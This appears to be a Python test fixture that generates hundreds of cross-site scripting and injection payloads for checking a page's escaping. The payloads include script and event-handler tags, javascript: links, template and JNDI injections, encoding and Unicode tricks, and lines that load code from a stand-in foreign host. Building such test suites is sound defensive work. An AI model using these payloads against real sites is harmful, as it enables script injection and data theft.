"""Three hundred texts that would be more than texts, if any page took them for markup.

Each calls `ran(…)`, which the page under test has, or leads to a host that nobody has. They are
written for this house: every place where a text stands is meant by some of them.
"""

from __future__ import annotations

from collections.abc import Iterator

FOREIGN = "fremmed.example"
RUN = "top.ran(7)"

# What a text breaks out of before it begins: an attribute, a script, a title, a comment …
BEFORE = ("", '">', "'>", "</textarea>", "</script>", "--></title>", "]]>", "`\\x22>")
MARKUP = (
    "<script>{run}</script>",
    "<ScRiPt src=//{host}/x.js></sCrIpT>",
    "<img src=x onerror={run}>",
    "<img/src='x'/onerror='{run}'>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script href=data:,{run} /></svg>",
    "<math><a xlink:href=javascript:{run}>klik</a></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}>",
    "<object data=data:text/html,<script>{run}</script>>",
    "<embed src=//{host}/x.swf>",
    "<details open ontoggle={run}><summary>åbn</summary></details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src onerror={run}>",
    "<body onload={run} onpageshow={run}>",
    "<form action=javascript:{run}><button autofocus>send</button></form>",
    "<a href=javascript:{run} autofocus onfocus={run}>klik</a>",
    "<meta http-equiv=refresh content='0;url=//{host}/'>",
    "<base href=//{host}/>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<style>@import '//{host}/x.css';*{{background:url(//{host}/b)}}</style>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<marquee onstart={run}>rul</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)
LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\nscript:{run}",
    "javascript&colon;{run}",
    "javascript://{host}/%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuKDcpPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "blob:https://{host}/1",
    "file:///etc/passwd",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
    "jar:https://{host}!/x.html",
    "//{host}/x",
    "https:{host}",
    'https://{host}/"onmouseover="{run}',
    "https://{host}/'onmouseover='{run}",
    "https://{host}/><img src=x onerror={run}>",
    "https://{host}/?q=<svg onload={run}>",
    "https://javascript:{run}@{host}/",
    "https://{host}/#javascript:{run}",
    "http://[::1]:99999/<script>{run}</script>",
    "https://%6aavascript:{run}/",
    "[klik](javascript:{run})",
    '[klik](https://{host} "onclick={run}")',
    "![billede](https://{host}/x.png)",
    "<https://{host}/x onclick={run}>",
    "https://kl.dk@{host}/",
)
TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{@html '<img src=x onerror={run}>'}}",
    "{{#if true}}<script>{run}</script>{{/if}}",
    "{{%raw%}}{run}{{%endraw%}}",
    "[[{run}]]",
    "${{jndi:ldap://{host}/x}}",
    "`${{{run}}}`",
    "'+{run}+'",
    '";{run}//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "&#x3c;svg onload={run}&#x3e;",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "__proto__",
    "constructor",
    "<!--#exec cmd='id'-->",
    "<?php {run} ?>",
    "@import url(//{host}/x.css)",
)
UNICODE = (
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<\u0130mg src=x onerror={run}>",
    "<img src=x on\u00adrror={run}>",
    "\u2039script\u203a{run}\u2039/script\u203a",
    "<svg/onload\u2028={run}>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "\ufeff<script>{run}</script>",
    "Line\u200bSkov",
    "\u200f\u200eomvendt",
    "\u061cskjult",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a" * 9,
    "\U000e0041\U000e0042 usynligt",
    "\u1680\u2003mellemrum",
    "\ufdfd" * 12,
    "\U0001f3f4\u200d\u2620\ufe0f",
    "a\u0338b\u20e0c",
)  # fmt: skip
# What no text may hold at all: what turns a line round, and what no person types.
REFUSED = ("regning\u202efdp.exe", "\u2066skjult\u2069", "\u202dtal", "nul\x00", "\x1b[31mrød")


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(text.format(run=RUN, host=FOREIGN) for text in _texts()))


def _texts() -> Iterator[str]:
    for text in MARKUP:
        for before in BEFORE:
            yield before.replace("{", "{{") + text
    yield from LINKS
    yield from TEMPLATES
    yield from UNICODE
    for number, before in enumerate(BEFORE[1:]):
        yield before + LINKS[number]
    for number, before in enumerate(BEFORE[1:]):
        yield before + TEMPLATES[number]
    yield from (f"{TEMPLATES[number]} {MARKUP[number]}" for number in range(8))
